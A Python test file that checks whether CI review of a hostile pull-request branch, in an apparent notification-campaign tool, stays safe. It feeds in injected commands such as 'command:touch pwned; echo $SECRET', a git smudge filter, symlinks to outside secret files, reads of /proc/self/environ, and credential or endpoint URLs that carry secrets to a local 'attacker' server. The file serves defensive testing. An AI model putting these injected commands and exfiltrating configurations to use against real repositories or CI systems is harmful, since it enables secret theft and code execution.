"""Branches that try to run commands, read files, reach a server or show secrets when they are reviewed."""

import json
import socket
import threading

import pytest

from test_ci import Repository, emulator, git, github, pull_request, root  # noqa: F401 (fixtures)

# The value of a variable in the job's environment. The host name would show it in lowercase.
SECRET_VALUE = "Hunter2Correct-Horse-Battery"
# The content of a file outside of the checkout.
FILE_SECRET = "opensesame-4711"


class Attacker:
    """A server that counts connections, on an address that is loopback in fact but not by name."""

    def __init__(self):
        self.connections = 0
        self.socket = socket.create_server(("127.0.0.2", 0))
        self.port = self.socket.getsockname()[1]
        self.url = f"https://127.0.0.2:{self.port}"
        threading.Thread(target=self.count, daemon=True).start()

    def count(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


@pytest.fixture
def repository(tmp_path, emulator):  # noqa: F811
    return Repository(tmp_path, emulator)


@pytest.fixture
def scene(repository, tmp_path):
    """A repository with a list and a campaign, a secret file outside of it, and an attacker."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text(FILE_SECRET + "\n")
    (outside / "secret").chmod(0o600)
    (outside / "list.txt").write_text(f"{FILE_SECRET}\n")
    attacker = Attacker()
    yield repository, outside, attacker
    attacker.socket.close()


def yaml(environment):
    return f"version: 1\nproject: e2e\ntopics: {{ tides: {{}} }}\nenvironments: {{ staging: {environment} }}\n"


def fcm(credentials, more=""):
    return yaml(f"{{ fcm: {{ project_id: harbour-b5ae1, credentials: {credentials}{more} }} }}")


def external_account(outside, attacker, source):
    return json.dumps({
        "type": "external_account", "audience": "//iam.googleapis.com/projects/1/x", "subject_token_type": "jwt",
        "token_url": attacker.url + "/token", "credential_source": source})


def service_account(attacker):
    return json.dumps({
        "type": "service_account", "client_email": "a@b.iam.gserviceaccount.com", "private_key_id": "1",
        "private_key": "x", "project_id": "harbour-b5ae1", "token_uri": attacker.url + "/token"})


def encryption(key):
    return yaml(f"{{ emulator: {{}}, state: {{ encryption: {{ {key} }} }} }}")


def write(project, outside, attacker, files):
    for name, text in files.items():
        project.write(name, text)


def listed(path):
    return {"campaigns/x.yaml": f"campaign: x\naudience: {{ registrations: '{path}' }}\n"
            "message: { notification: { title: x } }\n"}


def link(project, name, target):
    path = project.folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


BRANCHES = {
    "key command": lambda p, o, a: p.write("herald.yaml", encryption("key: 'command:touch pwned; echo $SECRET'")),
    "previous key command": lambda p, o, a: p.write(
        "herald.yaml", encryption("key: env:SECRET, previous: 'command:touch pwned'")),
    "key file outside": lambda p, o, a: p.write("herald.yaml", encryption(f"key: '{o}/secret'")),
    "key in a variable": lambda p, o, a: p.write("herald.yaml", encryption("key: env:SECRET")),
    "federation file": lambda p, o, a: write(p, o, a, {
        "herald.yaml": fcm("robot.json"),
        "robot.json": external_account(o, a, {"file": f"{o}/secret"})}),
    "federation url": lambda p, o, a: write(p, o, a, {
        "herald.yaml": fcm("robot.json"),
        "robot.json": external_account(o, a, {"url": a.url + "/identity"})}),
    "credential outside": lambda p, o, a: p.write("herald.yaml", fcm(f"'{o}/secret'")),
    "service account": lambda p, o, a: write(p, o, a, {
        "herald.yaml": fcm("robot.json"), "robot.json": service_account(a)}),
    "credential in a variable": lambda p, o, a: p.write("herald.yaml", fcm("env:SECRET")),
    "credential path": lambda p, o, a: p.write("herald.yaml", fcm("'${SECRET}.json'")),
    "endpoint": lambda p, o, a: p.write("herald.yaml", fcm("application-default", f", endpoint: '{a.url}'")),
    "endpoint with a secret": lambda p, o, a: p.write(
        "herald.yaml", fcm("application-default", ", endpoint: 'https://${SECRET}.example'")),
    "project with a secret": lambda p, o, a: p.write(
        "herald.yaml", yaml("{ fcm: { project_id: '${SECRET}', credentials: application-default } }")),
    "emulator with a secret": lambda p, o, a: p.write(
        "herald.yaml", yaml(f"{{ emulator: {{ url: '{a.url}/${{SECRET}}' }} }}")),
    "emulator elsewhere": lambda p, o, a: p.write("herald.yaml", yaml(f"{{ emulator: {{ url: '{a.url}' }} }}")),
    "authority outside": lambda p, o, a: p.write(
        "herald.yaml", yaml(f"{{ emulator: {{ url: '{a.url}', ca: '{o}/secret' }} }}")),
    "list outside": lambda p, o, a: write(p, o, a, listed(f"{o}/list.txt")),
    "list above": lambda p, o, a: write(p, o, a, listed("../outside/list.txt")),
    "environment as a list": lambda p, o, a: write(p, o, a, listed("/proc/self/environ")),
    "linked list": lambda p, o, a: (link(p, "list.txt", o / "list.txt"), write(p, o, a, listed("list.txt"))),
    "linked folder of lists": lambda p, o, a: (link(p, "lists", o), write(p, o, a, listed("lists/list.txt"))),
    "linked campaign": lambda p, o, a: link(p, "campaigns/x.yaml", o / "secret"),
    "linked state folder": lambda p, o, a: (p.write(".gitignore", ""), link(p, ".herald", o)),
    "running emulator": lambda p, o, a: (
        p.write(".gitignore", ""), p.write("herald.yaml", yaml("{ emulator: {} }")),
        p.write(".herald/emulator/running.json", json.dumps({"url": a.url, "pid": 1})),
        link(p, ".herald/emulator/lock", o / "secret")),
    "git filter": lambda p, o, a: (
        p.write(".gitattributes", "* filter=evil\n"), p.write(".gitconfig", '[filter "evil"]\n\tsmudge = touch pwned\n')),
}


@pytest.mark.parametrize("name", BRANCHES)
def test_a_hostile_branch_gets_nothing_from_its_review(github, scene, name):  # noqa: F811
    repository, outside, attacker = scene
    project = repository.project
    project.campaign("spring-tide", "{ topic: tides }", title="$SECRET ${SECRET} {{SECRET}}")
    BRANCHES[name](project, outside, attacker)
    commit = repository.checkout(repository.commit("change"))
    before = {path: path.read_bytes() for path in outside.rglob("*") if path.is_file()}
    github.more = {"SECRET": SECRET_VALUE, "GOOGLE_APPLICATION_CREDENTIALS": str(outside / "none.json")}
    done = github.run(pull_request(), commit, environment="staging")
    shown = "".join([done.out, done.err, done.summary, json.dumps(done.outputs), json.dumps(github.forge.comments)])
    shown += "".join(
        path.read_text(errors="replace") for path in repository.runner.rglob("herald-plan.*") if path.is_file())
    for secret in (SECRET_VALUE, FILE_SECRET):
        assert secret.lower() not in shown.lower(), f"{name} shows a secret\n{done}"
    assert attacker.connections == 0
    assert not list(repository.runner.rglob("pwned")) and not list(outside.rglob("pwned"))
    assert {path: path.read_bytes() for path in outside.rglob("*") if path.is_file()} == before
    assert repository.log.sends() == []
